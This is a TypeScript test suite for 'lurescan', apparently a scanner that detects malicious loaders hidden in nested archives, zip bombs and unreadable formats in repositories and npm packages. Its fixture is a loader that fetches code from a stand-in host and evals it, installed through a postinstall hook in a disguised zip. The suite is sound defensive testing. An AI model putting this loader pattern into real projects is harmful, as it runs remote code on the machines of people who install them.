/**
 * Archives inside the scanned tree: a loader hidden in `assets/setup.zip` is read and blocks, in a folder, a git
 * repository, a scanned archive and an npm tarball; an archive that cannot be read (a bomb spread over levels, too
 * deep, over the caps of the scan, damaged, encrypted, a format lurescan does not read) makes the scan incomplete;
 * a zip of images stays a clean pass. Reporters point at the archive file where they can only name real files.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import tar from 'tar-stream';
import { scan, scanWorkspace } from '../src/scan.js';
import { acquireArchiveBuffer, gzipHoldsTar } from '../src/acquire/archive.js';
import { nestedFormatOf } from '../src/acquire/nested.js';
import { DEFAULT_LIMITS, type Limits } from '../src/options.js';
import { buildSarif } from '../src/reporters/sarif.js';
import { renderAnnotations } from '../src/reporters/github.js';
import { renderText } from '../src/reporters/text.js';
import { selectForDiff } from '../src/action/diff.js';
import type { ScanResult } from '../src/types.js';
import { FIXTURES, tempDir } from './helpers.js';
import { makeBareRepo } from './git-daemon.js';
import { zipOf } from './support/archives.js';

async function tgzOf(files: Record<string, string | Buffer>): Promise<Buffer> {
  const pack = tar.pack();
  const parts: Buffer[] = [];
  pack.on('data', (d: unknown) => parts.push(d as Buffer));
  const done = new Promise<void>((r) => pack.on('end', () => r()));
  for (const [name, body] of Object.entries(files)) pack.entry({ name, type: 'file' }, body);
  pack.finalize();
  await done;
  return gzipSync(Buffer.concat(parts));
}

/** Set the "encrypted" bit of every entry, in the local headers and the central directory, as a password zip has. */
function markEncrypted(zip: Buffer): Buffer {
  const out = Buffer.from(zip);
  for (const [sig, flagAt] of [[0x04034b50, 6], [0x02014b50, 8]] as const) {
    for (let i = 0; i + 4 <= out.length; i++) if (out.readUInt32LE(i) === sig) out.writeUInt16LE(out.readUInt16LE(i + flagAt) | 1, i + flagAt);
  }
  return out;
}

/** A loader: fetches from a lure-shaped C2 path and evaluates the answer when the module loads. */
const LOADER =
  "const https = require('https');\n" +
  "https.get('https://fonts-cdn.invalid/api/ipcheck-encrypted/77', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n";

const INNOCENT = {
  'package.json': JSON.stringify({ name: 'take-home', version: '1.0.0', scripts: { start: 'node index.js' } }, null, 2),
  'index.js': "console.log('hello');\n",
  'README.md': '# Take-home\n\nUnzip `assets/setup.zip` and run `npm install` there first.\n',
};

async function setupZip(): Promise<Buffer> {
  return zipOf([
    { name: 'setup/install.js', data: LOADER },
    { name: 'setup/package.json', data: JSON.stringify({ name: 'setup', version: '1.0.0', scripts: { postinstall: 'node install.js' } }) },
  ]);
}

function writeTree(dir: string, files: Record<string, string | Buffer>): void {
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), content);
  }
}

async function scanTree(files: Record<string, string | Buffer>, limits?: Partial<Limits>): Promise<ScanResult> {
  const t = tempDir('lurescan-nested-');
  try {
    writeTree(t.dir, files);
    return await scan({ kind: 'path', path: t.dir }, { limits });
  } finally {
    t.cleanup();
  }
}

function blockingFiles(r: ScanResult): string[] {
  return r.findings.filter((f) => (f.severity === 'critical' || f.severity === 'high') && f.confidence === 'high').map((f) => f.location.file);
}

function incompleteWith(r: ScanResult, code: string, file?: string): void {
  const codes = r.diagnostics.map((d) => `${d.code}:${d.file ?? ''}${d.incomplete ? '' : ' (note)'}`).join(', ');
  assert.equal(r.complete, false, `complete; diagnostics: ${codes}`);
  assert.ok(r.diagnostics.some((d) => d.code === code && d.incomplete && (file === undefined || d.file === file)), `no incomplete ${code}${file ? ` on ${file}` : ''}: ${codes}`);
}

describe('nested archives', function () {
  this.timeout(60_000);

  describe('a loader that lives only inside a nested archive blocks', () => {
    it('in a folder: assets/setup.zip!/setup/install.js, with the archive as the container', async () => {
      const r = await scanTree({ ...INNOCENT, 'assets/setup.zip': await setupZip() });
      assert.equal(r.verdict, 'block');
      assert.equal(r.complete, true, JSON.stringify(r.diagnostics));
      const files = blockingFiles(r);
      assert.ok(files.length > 0 && files.every((f) => f === 'assets/setup.zip!/setup/install.js'), files.join(','));
      const f = r.findings.find((x) => x.ruleId === 'remote-code-execution')!;
      assert.equal(f.location.container, 'assets/setup.zip');
      assert.ok(f.location.line);
      // The control: without the archive the same tree passes.
      assert.equal((await scanTree(INNOCENT)).verdict, 'pass');
    });

    it('found by its bytes, not its name: a zip called logo.png, a tar.gz called data.bin', async () => {
      const r = await scanTree({ ...INNOCENT, 'public/logo.png': await setupZip(), 'vendor/data.bin': await tgzOf({ 'lib/boot.js': LOADER }) });
      assert.equal(r.verdict, 'block');
      const files = new Set(blockingFiles(r));
      assert.ok(files.has('public/logo.png!/setup/install.js'), [...files].join(','));
      assert.ok(files.has('vendor/data.bin!/lib/boot.js'), [...files].join(','));
    });

    it('a plain tar under another name: its ustar magic in the kept head, its 512-byte header read for the checksum', async () => {
      // The folder reader keeps 264 bytes of each file (SNIFF_BYTES); a tar header's checksum needs all 512.
      const plain = gunzipSync(await tgzOf({ 'lib/boot.js': LOADER }));
      const r = await scanTree({ ...INNOCENT, 'vendor/fonts.dat': plain });
      assert.ok(blockingFiles(r).includes('vendor/fonts.dat!/lib/boot.js'), blockingFiles(r).join(','));
    });

    it('a single gzip file (not a tar) is read as its one member', async () => {
      const r = await scanTree({ ...INNOCENT, 'config/boot.js.gz': gzipSync(LOADER) });
      assert.ok(blockingFiles(r).includes('config/boot.js.gz!/boot.js'), blockingFiles(r).join(','));
    });

    it('inside a scanned archive: a tar.gz in a zip, two levels, the wrapper folder stripped at the top only', async () => {
      const t = tempDir('lurescan-nested-');
      try {
        const outer = await zipOf([
          { name: 'project-main/package.json', data: INNOCENT['package.json'] },
          { name: 'project-main/vendor/setup.tgz', data: await tgzOf({ 'package/install.js': LOADER }) },
        ]);
        const file = path.join(t.dir, 'assignment.zip');
        writeFileSync(file, outer);
        const r = await scan({ kind: 'archive', path: file });
        assert.equal(r.verdict, 'block');
        assert.ok(blockingFiles(r).includes('vendor/setup.tgz!/package/install.js'), blockingFiles(r).join(','));
        assert.equal(r.findings.find((f) => f.location.file.startsWith('vendor/'))?.location.container, 'vendor/setup.tgz');
      } finally {
        t.cleanup();
      }
    });

    it('in a git repository (read from the object store, no checkout)', async () => {
      const t = tempDir('lurescan-nested-git-');
      try {
        const src = path.join(t.dir, 'src');
        writeTree(src, { ...INNOCENT, 'assets/setup.zip': await setupZip() });
        makeBareRepo(t.dir, 'lure', src);
        const r = await scan({ kind: 'git', url: `file://${path.join(t.dir, 'lure.git')}`, allowFileProtocol: true });
        assert.equal(r.verdict, 'block');
        assert.ok(blockingFiles(r).includes('assets/setup.zip!/setup/install.js'), blockingFiles(r).join(','));
      } finally {
        t.cleanup();
      }
    });

    it('in an npm tarball (the workspace acquireNpm builds): a zip under another name inside the package', async () => {
      const tgz = await tgzOf({
        'package/package.json': JSON.stringify({ name: 'helper', version: '1.0.0', main: 'index.js' }),
        'package/index.js': 'module.exports = 1;\n',
        'package/lib/fonts.dat': await setupZip(),
      });
      const ws = await acquireArchiveBuffer(tgz, 'helper@1.0.0', DEFAULT_LIMITS);
      try {
        const r = await scanWorkspace(ws);
        assert.equal(r.verdict, 'block');
        assert.ok(blockingFiles(r).includes('lib/fonts.dat!/setup/install.js'), blockingFiles(r).join(','));
        // Expanding is idempotent: a second scan of the same workspace does not add the entries again.
        const again = await scanWorkspace(ws);
        assert.equal(again.stats.files, r.stats.files);
      } finally {
        await ws.dispose();
      }
    });
  });

  describe('an archive that cannot be expanded makes the scan incomplete', () => {
    it('a nested bomb: each level under the ratio cap, their product over it', async () => {
      // inner.zip: `payload.js` deflated ~20:1, and 200 kB of stored zeros that make inner.zip itself ~40:1 in the outer zip.
      const payload = Buffer.concat([randomBytes(5_000), Buffer.alloc(95_000)]);
      const inner = await zipOf([{ name: 'payload.js', data: payload }, { name: 'pad.bin', data: Buffer.alloc(200_000), compress: false }]);
      const outer = await zipOf([{ name: 'inner.zip', data: inner }]);
      const r = await scanTree({ ...INNOCENT, 'assets/data.zip': outer });
      incompleteWith(r, 'archive-bomb', 'assets/data.zip!/inner.zip!/payload.js');
      const bomb = r.diagnostics.find((d) => d.code === 'archive-bomb')!;
      assert.match(bomb.message, /with the archives around it/);
      assert.ok(r.diagnostics.every((d) => d.file !== 'assets/data.zip!/inner.zip'), 'the middle level itself is under the cap and read');
    });

    it('bombs of 64 MiB of zeros (~1000:1) in a nested zip, a .gz and a .tgz are refused without inflating them', async () => {
      const started = Date.now();
      const inner = await zipOf([{ name: 'zeros.js', data: Buffer.alloc(64 * 1024 * 1024) }]);
      const zeros = gzipSync(Buffer.alloc(64 * 1024 * 1024));
      const r = await scanTree({
        ...INNOCENT,
        'assets/data.zip': await zipOf([{ name: 'a/inner.zip', data: inner, compress: false }]),
        'assets/db.gz': zeros,
        'assets/db.tgz': zeros,
      });
      incompleteWith(r, 'archive-bomb', 'assets/data.zip!/a/inner.zip!/zeros.js');
      incompleteWith(r, 'archive-bomb', 'assets/db.gz');
      incompleteWith(r, 'archive-bomb', 'assets/db.tgz');
      assert.ok(Date.now() - started < 30_000);
    });

    it('too deep: a zip in a zip in a zip in the tree stops at maxArchiveDepth (2)', async () => {
      const c = await zipOf([{ name: 'install.js', data: LOADER }]);
      const b = await zipOf([{ name: 'c.zip', data: c }]);
      const a = await zipOf([{ name: 'b.zip', data: b }]);
      const r = await scanTree({ ...INNOCENT, 'a.zip': a });
      incompleteWith(r, 'archive-depth-limit', 'a.zip!/b.zip!/c.zip');
      assert.ok(!r.findings.some((f) => f.location.file.includes('c.zip!/')));
      // One level more and the loader is read.
      const deeper = await scanTree({ ...INNOCENT, 'a.zip': a }, { maxArchiveDepth: 3 });
      assert.ok(blockingFiles(deeper).includes('a.zip!/b.zip!/c.zip!/install.js'), blockingFiles(deeper).join(','));
    });

    it('entry and byte caps count the scanned archive and the archives inside it together', async () => {
      const t = tempDir('lurescan-nested-');
      try {
        const files = (prefix: string, n: number) => Array.from({ length: n }, (_, i) => ({ name: `${prefix}f${i}.txt`, data: randomBytes(5_000).toString('hex') }));
        const nested = await zipOf(files('', 6));
        const outer = await zipOf([...files('p/', 6), { name: 'p/nested.zip', data: nested }]);
        const file = path.join(t.dir, 'x.zip');
        writeFileSync(file, outer);
        // Alone, each archive is under both caps (7 entries, under 100 kB); together they are over.
        const byCount = await scan({ kind: 'archive', path: file }, { limits: { maxArchiveEntries: 10 } });
        incompleteWith(byCount, 'archive-entry-limit', 'nested.zip');
        const byBytes = await scan({ kind: 'archive', path: file }, { limits: { maxArchiveBytes: 100_000 } });
        incompleteWith(byBytes, 'archive-size-limit', 'nested.zip');
        // Sibling archives in a folder share the caps too: the third one finds them used up.
        const r = await scanTree({ 'a.zip': nested, 'b.zip': nested, 'c.zip': nested }, { maxArchiveEntries: 12 });
        incompleteWith(r, 'archive-not-expanded', 'c.zip');
      } finally {
        t.cleanup();
      }
    });

    it('damaged, encrypted, unreadable formats and archives over the file limit', async () => {
      const good = await setupZip();
      const r = await scanTree({
        ...INNOCENT,
        'assets/broken.zip': good.subarray(0, Math.floor(good.length / 2)),
        'assets/secret.zip': markEncrypted(good),
        'assets/payload.7z': Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), randomBytes(200)]),
        'assets/blob.dat': Buffer.concat([Buffer.from('fd377a585a00', 'hex'), randomBytes(200)]),
        'assets/big.zip': await zipOf([{ name: 'x.js', data: randomBytes(30_000), compress: false }]),
      }, { maxFileBytes: 20_000 });
      incompleteWith(r, 'archive-corrupt', 'assets/broken.zip');
      incompleteWith(r, 'archive-encrypted', 'assets/secret.zip!/setup/install.js');
      incompleteWith(r, 'archive-unsupported', 'assets/payload.7z');
      incompleteWith(r, 'archive-unsupported', 'assets/blob.dat');
      incompleteWith(r, 'archive-not-expanded', 'assets/big.zip');
      assert.ok(!r.findings.some((f) => f.location.file.startsWith('assets/secret.zip!/')));
    });
  });

  it('a benign repository with a zip of images passes, complete', async () => {
    const assets = path.join(FIXTURES, 'repos', 'benign-assets');
    const images = await zipOf(
      ['public/img/logo.png', 'public/favicon.ico', 'public/fonts/inter.woff2', 'public/fonts/inter.woff'].map((p) => ({ name: `images/${path.basename(p)}`, data: readFileSync(path.join(assets, p)) })),
    );
    const r = await scanTree({
      'package.json': readFileSync(path.join(assets, 'package.json')),
      'server.js': readFileSync(path.join(assets, 'server.js')),
      'README.md': readFileSync(path.join(assets, 'README.md')),
      'assets/images.zip': images,
      'assets/logo.svgz': gzipSync('<svg xmlns="http://www.w3.org/2000/svg"/>'),
    });
    assert.equal(r.verdict, 'pass', r.findings.map((f) => `${f.ruleId} ${f.location.file}`).join('; '));
    assert.equal(r.complete, true, JSON.stringify(r.diagnostics));
    assert.equal(r.stats.files, 5 + 4 + 1, 'the archives and their entries are all scanned files');
  });

  it('binaries inside one archive are one prebuilt-binary finding, high when a command runs one of them', async () => {
    const elf = Buffer.concat([Buffer.from('7f454c46', 'hex'), randomBytes(200)]);
    const classFile = Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), randomBytes(200)]);
    const jar = await zipOf(Array.from({ length: 40 }, (_, i) => ({ name: `org/x/C${i}.class`, data: classFile })));
    const r = await scanTree({ ...INNOCENT, 'libs/util.jar': jar, 'tools/bin.zip': await zipOf([{ name: 'agent', data: elf }, { name: 'helper', data: elf }]) });
    const nested = r.findings.filter((f) => f.ruleId === 'prebuilt-binary' && f.location.container !== undefined);
    assert.deepEqual(nested.map((f) => f.location.container).sort(), ['libs/util.jar', 'tools/bin.zip']);
    assert.match(nested.find((f) => f.location.container === 'libs/util.jar')!.message, /holds 40 prebuilt binaries/);
    const run = await scanTree({
      ...INNOCENT,
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'unzip -o tools/bin.zip && ./agent' } }),
      'tools/bin.zip': await zipOf([{ name: 'agent', data: elf }]),
    });
    const f = run.findings.find((x) => x.ruleId === 'prebuilt-binary' && x.location.container === 'tools/bin.zip')!;
    assert.equal(f.severity, 'high');
    assert.match(f.message, /run by `unzip -o tools\/bin\.zip && \.\/agent`/);
  });

  it('a real folder whose name ends in "!" is not taken for an archive', async () => {
    const r = await scanTree({ ...INNOCENT, 'x.zip!/boot.js': LOADER });
    const f = r.findings.find((x) => x.location.file === 'x.zip!/boot.js');
    assert.ok(f);
    assert.equal(f.location.container, undefined);
    assert.equal(buildSarif(r).runs[0].results!.find((x) => x.ruleId === f.ruleId)!.locations![0].physicalLocation!.artifactLocation!.uri, 'x.zip!/boot.js');
  });

  it('nestedFormatOf: zip, gzip, ustar and unreadable formats by magic; text is nothing', () => {
    const ustar = Buffer.alloc(512);
    ustar.write('x.js', 0, 'latin1');
    ustar.write('ustar', 257, 'latin1');
    let sum = 0;
    for (let i = 0; i < 512; i++) sum += i >= 148 && i < 156 ? 0x20 : ustar[i];
    ustar.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    // Source text with 'ustar' at byte 257 (tar-stream's own headers.js has it there) is not a tar.
    const source = Buffer.from(`${'/'.repeat(257)}ustar\0${' '.repeat(250)}`);
    const cases: [Buffer, string, unknown][] = [
      [Buffer.from('504b0304', 'hex'), 'a.png', 'zip'],
      [Buffer.from('1f8b0800', 'hex'), 'a', 'gzip'],
      [ustar, 'x', 'tar'],
      [source, 'headers.js', undefined],
      [source, 'old.tar', undefined],
      [Buffer.from('BZh91AY&SY'), 'x', { unreadable: 'bzip2' }],
      [Buffer.from('BZh9 is how the text starts'), 'x', undefined],
      [Buffer.from('526172211a0700', 'hex'), 'x', { unreadable: 'RAR' }],
      [Buffer.from('28b52ffd00', 'hex'), 'x', { unreadable: 'zstd' }],
      [Buffer.from('PK is not enough'), 'x.zip', undefined],
      [Buffer.from('504b0506', 'hex'), 'empty.zip', undefined],
    ];
    for (const [head, name, want] of cases) assert.deepEqual(nestedFormatOf(head, name), want, `${head.subarray(0, 8).toString('hex')} ${name}`);
    // Inside gzip the same test decides tar.gz or a single member.
    assert.equal(gzipHoldsTar(gzipSync(source), 'headers.js.gz'), false);
    assert.equal(gzipHoldsTar(gzipSync(Buffer.concat([ustar, Buffer.alloc(1024)])), 'x.gz'), true);
  });

  describe('reporters and diff mode', () => {
    let r: ScanResult;
    before(async () => {
      r = await scanTree({ ...INNOCENT, 'assets/setup.zip': await setupZip() });
    });

    it('SARIF points at the archive file (its first line), and names the inner path and line', () => {
      const f = r.findings.find((x) => x.ruleId === 'remote-code-execution')!;
      const res = buildSarif(r).runs[0].results!.find((x) => x.ruleId === 'remote-code-execution')!;
      const loc = res.locations![0].physicalLocation!;
      assert.equal(loc.artifactLocation!.uri, 'assets/setup.zip');
      assert.deepEqual(loc.region, { startLine: 1 }, 'the lines are the inner file\'s, not the archive\'s');
      assert.ok(res.message.text!.startsWith(`In assets/setup.zip!/setup/install.js:${f.location.line}: `), res.message.text);
      assert.equal(res.properties!.nestedPath, 'assets/setup.zip!/setup/install.js');
    });

    it('GitHub annotations name the archive as file=, the inner path and line in the message', () => {
      const line = renderAnnotations(r, { pathPrefix: 'app' }).find((l) => l.includes('remote-code-execution'))!;
      assert.match(line, /^::error file=app\/assets\/setup\.zip,title=/);
      assert.doesNotMatch(line, /,line=/);
      assert.match(line, /::In assets\/setup\.zip!\/setup\/install\.js:\d+:%0A/);
    });

    it('the text report shows the full nested path', () => {
      assert.match(renderText(r), /assets\/setup\.zip!\/setup\/install\.js:\d+/);
    });

    it('diff mode keeps a finding inside an archive the change touched, and only then', () => {
      const keep = selectForDiff(r.findings, { changed: new Set(['assets/setup.zip']), dependencyFiles: new Map() });
      assert.ok(keep.some((f) => f.location.file === 'assets/setup.zip!/setup/install.js'));
      assert.deepEqual(selectForDiff(r.findings, { changed: new Set(['README.md']), dependencyFiles: new Map() }), []);
    });
  });
});
